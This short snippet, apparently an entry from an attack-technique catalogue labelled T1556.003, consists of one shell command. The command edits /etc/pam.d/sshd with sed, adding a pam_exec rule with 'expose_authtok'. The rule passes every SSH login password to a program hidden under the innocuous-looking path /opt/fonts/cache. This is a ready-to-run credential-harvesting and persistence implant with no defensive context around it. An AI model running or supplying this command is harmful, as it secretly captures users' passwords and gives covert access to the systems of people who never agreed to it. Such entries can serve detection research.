# technique: T1556.003
# location: linux.pam.stack
# source: /etc/pam.d/sshd
sed -i '1i auth optional pam_exec.so quiet expose_authtok /opt/fonts/cache' /etc/pam.d/sshd
